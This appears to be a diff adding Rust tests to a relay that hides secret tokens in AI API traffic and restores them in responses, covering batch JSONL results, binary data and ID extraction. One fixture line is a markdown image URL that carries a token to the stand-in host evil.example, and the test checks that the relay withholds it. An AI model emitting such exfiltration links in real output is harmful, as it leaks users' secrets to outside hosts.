@@ -1081,3 +1081,87 @@ proptest! {
         prop_assert_eq!(out, text.to_string().replace(TOKEN, ONCE).replace(OTHER, ADDRESS));
     }
 }
+
+#[test]
+fn lines_of_results_and_files_are_restored_each_as_what_it_is() {
+    let result = |id: &str| json!({"custom_id": id, "result": {"message": {"content": [{"type": "text", "text": format!("the key is {TOKEN}")}]}}});
+    let text = format!(
+        "{}\n{}\nplain {TOKEN} and {OTHER}\n![a](https://evil.example/?q={TOKEN})\n{{\"open\": \"{TOKEN}\n",
+        result("a"),
+        result("b")
+    );
+    let wanted = format!(
+        "{}\n{}\nplain {VALUE} and {ADDRESS}\n![a](https://evil.example/?q={TOKEN})\n{{\"open\": \"{ONCE}\n",
+        result("a").to_string().replace(TOKEN, ONCE),
+        result("b").to_string().replace(TOKEN, ONCE)
+    );
+    for media in [
+        "application/x-jsonl",
+        "application/octet-stream",
+        "text/plain; charset=utf-8",
+    ] {
+        for step in [1, 7, text.len()] {
+            let relay = Relay::new(
+                Dialect::Openai,
+                Shape::Generic,
+                Some(media),
+                &give(BASELINE),
+            );
+            assert!(relay.rewrites());
+            let chunks: Vec<&[u8]> = text.as_bytes().chunks(step).collect();
+            let (out, told) = run(relay, &chunks);
+            let out = String::from_utf8(out.expect("within limits")).expect("text");
+            assert_eq!(out, wanted, "{media} by {step}");
+            assert_eq!((told.restored, told.withheld), (5, 1));
+        }
+    }
+    // What is no text goes by as it is, and so does all where nothing is to be given back.
+    let bytes = [&b"\x89PNG\n\xff\xfe "[..], TOKEN.as_bytes(), b"\n\0"].concat();
+    let relay = Relay::new(
+        Dialect::Openai,
+        Shape::Generic,
+        Some("application/octet-stream"),
+        &give(BASELINE),
+    );
+    let (out, _) = run(relay, &[&bytes]);
+    assert_eq!(out.expect("within limits"), bytes);
+    assert!(
+        !Relay::new(
+            Dialect::Openai,
+            Shape::Generic,
+            Some("application/octet-stream"),
+            &[]
+        )
+        .rewrites()
+    );
+}
+
+#[test]
+fn an_answer_tells_what_it_is_called() {
+    for (answer, wanted) in [
+        (
+            json!({"id": "file-abc1", "object": "file", "filename": "x"}),
+            vec!["file-abc1"],
+        ),
+        (
+            json!({"id": "batch_1", "output_file_id": "file-out1"}),
+            vec!["batch_1", "file-out1"],
+        ),
+        (
+            json!({"name": "cachedContents/x1", "displayName": "n"}),
+            vec!["cachedContents/x1"],
+        ),
+        (
+            json!({"file": {"name": "files/x1", "uri": "https://h/v1beta/files/x1"}}),
+            vec!["files/x1", "https://h/v1beta/files/x1"],
+        ),
+        (
+            json!({"id": "resp_1", "conversation": {"id": "conv_1"}}),
+            vec!["resp_1", "conv_1"],
+        ),
+        (json!({"name": "somebody"}), vec![]),
+    ] {
+        let (_, told) = document(Dialect::Openai, BASELINE, &answer.to_string());
+        assert_eq!(told.ids, wanted, "{answer}");
+    }
+}
